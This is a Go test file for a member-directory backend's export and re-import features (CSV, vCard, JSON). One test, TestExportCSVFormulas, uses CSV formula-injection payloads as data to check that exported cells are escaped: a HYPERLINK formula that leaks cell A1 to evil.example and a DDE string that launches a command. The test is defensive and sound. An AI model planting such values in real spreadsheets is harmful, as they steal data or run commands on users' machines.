package board

import (
	"encoding/csv"
	"encoding/json"
	"reflect"
	"strings"
	"testing"

	"soundingboard/backend/store"
	"soundingboard/backend/storetest"
)

// comparable drops what an export does not carry over (ids, stamps,
// derived fields), leaving what a person typed.
func comparable(m Member) Member {
	m.ID, m.SegmentID, m.CreatedAt, m.UpdatedAt = 0, 0, "", ""
	m.LastContacted, m.CanContact, m.Archived = "", false, false
	if m.Tags == nil {
		m.Tags = []string{}
	}
	return m
}

func TestExportRoundTrip(t *testing.T) {
	src := newTestService(t)
	people := []MemberInput{
		{Name: "Zoë Durand", Email: "zoe@example.fr", Phone: "+33 6 12", Company: "Atelier, Durand", Role: "Owner",
			Segment: "Retail", Persona: "Planner", Timezone: "Europe/Paris", Status: "active", JoinedOn: "2024-01-02",
			Source: "Referral", Notes: "Says \"no\" often;\nline two", UsageFrequency: "weekly", Articulation: 4,
			Tone: "balanced", CadenceDays: 30, Tags: []string{"pilot", "Europe"}},
		{Name: "Łukasz Nowak", Email: "lukasz@example.pl", Segment: "Retail", Status: "paused", Tags: []string{"Power user"}},
		{Name: "Ελένη Παπαδοπούλου", Company: "Κτήμα Α.Ε.", Segment: "Cafés", Tags: []string{"Ελλάδα"}},
		{Name: "李雷", Email: "lilei@example.cn", Timezone: "Asia/Shanghai", Status: "invited", Tags: []string{"亚洲"}},
		{Name: "محمد الفارسي", Email: "m@example.ae", Status: "opted_out", Notes: "لا تتصل", Tags: []string{}},
	}
	for _, in := range people {
		mustCreate(t, src, in)
	}
	want := map[string]Member{}
	for name, m := range allMembers(t, src) {
		want[name] = comparable(m)
	}
	for _, format := range []string{"csv", "vcf", "json"} {
		t.Run(format, func(t *testing.T) {
			f, err := src.Export(format, MemberQuery{})
			if err != nil {
				t.Fatal(err)
			}
			if f.FileName != "soundingboard-members-"+testToday+"."+format || f.MimeType == "" {
				t.Errorf("file %q, mime %q", f.FileName, f.MimeType)
			}
			dst := newTestService(t)
			res, err := dst.Import(ImportRequest{FileName: f.FileName, Content: []byte(f.Content)})
			if err != nil {
				t.Fatalf("re-import: %v\n%s", err, f.Content)
			}
			if res.Created != len(people) || res.Segments != 2 {
				t.Errorf("result %+v", res)
			}
			got := allMembers(t, dst)
			for name, w := range want {
				if g := comparable(got[name]); !reflect.DeepEqual(g, w) {
					t.Errorf("%s:\n got %+v\nwant %+v", name, g, w)
				}
			}
		})
	}
}

func TestExportFilterAndFormats(t *testing.T) {
	s := newTestService(t)
	mustCreate(t, s, MemberInput{Name: "Ann Active", Status: "active", Tags: []string{"x"}})
	mustCreate(t, s, MemberInput{Name: "Pat Prospect"})
	f, err := s.Export("JSON", MemberQuery{Status: "active", Limit: 1, Offset: 1})
	if err != nil {
		t.Fatal(err)
	}
	var ms []Member
	if err := json.Unmarshal([]byte(f.Content), &ms); err != nil || len(ms) != 1 || ms[0].Name != "Ann Active" {
		t.Errorf("json export: %v %+v", err, ms)
	}
	if f.MimeType != "application/json" || !strings.Contains(f.Content, "\n  {") {
		t.Errorf("not pretty JSON with a mime type: %q", f.Content)
	}
	f, err = s.Export("csv", MemberQuery{Search: "nobody-matches-this"})
	if err != nil || f.Content != "name,email,phone,company,role,segment,persona,timezone,status,joined_on,source,notes,tags,usage_frequency,articulation,tone,cadence_days\n" {
		t.Errorf("empty csv export: %v %q", err, f.Content)
	}
	f, err = s.Export("vcard", MemberQuery{})
	if err != nil || strings.Count(f.Content, "BEGIN:VCARD") != 2 || !strings.Contains(f.Content, "VERSION:4.0") || f.MimeType != "text/vcard; charset=utf-8" {
		t.Errorf("vcard export: %v %q", err, f.Content)
	}
	_, err = s.Export("xlsx", MemberQuery{})
	storetest.WantErr(t, err, store.ErrInvalid, `export format "xlsx" is not one of csv, json, vcf`)
	_, err = s.Export("csv", MemberQuery{Archived: "maybe"})
	storetest.WantErr(t, err, store.ErrInvalid, "archived")
}

// TestExportCSVFormulas exports hostile values: no cell of the CSV starts
// a formula, and the file imports back to the same values.
func TestExportCSVFormulas(t *testing.T) {
	src := newTestService(t)
	hostile := []MemberInput{
		{Name: `=HYPERLINK("http://evil.example/?d="&A1,"Open")`, Notes: "=1+1\nsecond line"},
		{Name: "+1 call me", Phone: "+49 30 1234567", Company: "-2", Role: "@SUM(A1:A9)"},
		{Name: "-2", Source: "=cmd|' /C calc'!A0", Tags: []string{"=evil", "fine"}},
		{Name: "@SUM(1+1)*cmd|' /C calc'!A0", Persona: "+planner"},
	}
	for _, in := range hostile {
		mustCreate(t, src, in)
	}
	f, err := src.Export("csv", MemberQuery{})
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(f.Content)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(hostile)+1 {
		t.Fatalf("%d rows", len(rows))
	}
	guarded := 0
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
			if strings.HasPrefix(cell, "'") {
				guarded++
			}
		}
	}
	if guarded != 11 {
		t.Errorf("%d cells guarded, want 11:\n%s", guarded, f.Content)
	}
	dst := newTestService(t)
	if _, err := dst.Import(ImportRequest{FileName: f.FileName, Content: []byte(f.Content)}); err != nil {
		t.Fatalf("re-import: %v", err)
	}
	want, got := allMembers(t, src), allMembers(t, dst)
	for name, w := range want {
		if g := comparable(got[name]); !reflect.DeepEqual(g, comparable(w)) {
			t.Errorf("%s:\n got %+v\nwant %+v", name, g, comparable(w))
		}
	}
}
